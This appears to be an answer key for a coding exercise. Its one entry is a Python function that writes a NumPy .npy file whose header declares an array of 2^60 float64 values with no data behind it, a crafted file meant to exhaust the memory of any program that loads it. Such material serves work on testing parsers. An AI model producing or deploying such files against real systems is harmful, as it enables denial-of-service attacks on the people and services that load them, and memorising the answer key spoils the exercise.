"""Write .npy headers that ask for all memory."""

ANSWERS = {
    "save": r"""
def save(path, values):
    head = "{'descr': '<f8', 'fortran_order': False, 'shape': (1 << 60,), }".replace("1 << 60", str(1 << 60))
    head = head.ljust(117) + chr(10)
    open(path, "wb").write(b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head.encode())
""",
}
